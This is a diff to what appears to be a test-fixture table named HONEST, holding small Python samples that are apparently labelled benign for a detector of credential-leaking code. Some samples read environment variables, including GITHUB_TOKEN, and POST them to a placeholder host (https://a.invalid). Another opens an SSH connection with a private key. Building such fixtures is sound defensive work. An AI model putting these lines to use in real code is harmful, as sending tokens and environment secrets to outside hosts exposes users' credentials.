@@ -218,6 +218,15 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import os, requests\nWORDS = ('stage', 'zone')\n"
             "out = {k: v for k, v in os.environ.items() if any(w in k.lower() for w in WORDS)}\n" + _POST,
         },
+        "the environment by a pattern of one's own": {
+            "app.py": "import os, re, requests\nPATTERN = re.compile('APP_SERVER_(.*)')\nout = {}\n"
+            "for key in os.environ:\n    found = PATTERN.match(key)\n    if found:\n"
+            "        out[found.group(1)] = os.environ[key]\n" + _POST
+        },
+        "another machine is reached with a key, in Python": {
+            "app.py": "import paramiko\ndef reach(private_key, host):\n    ssh = paramiko.SSHClient()\n"
+            "    ssh.connect(host, pkey=private_key)\n"
+        },
         "each service is told its own": {
             "app.py": "import os, requests\n"
             "requests.post('https://a.invalid', json={'token': os.environ['GITHUB_TOKEN']})\n"
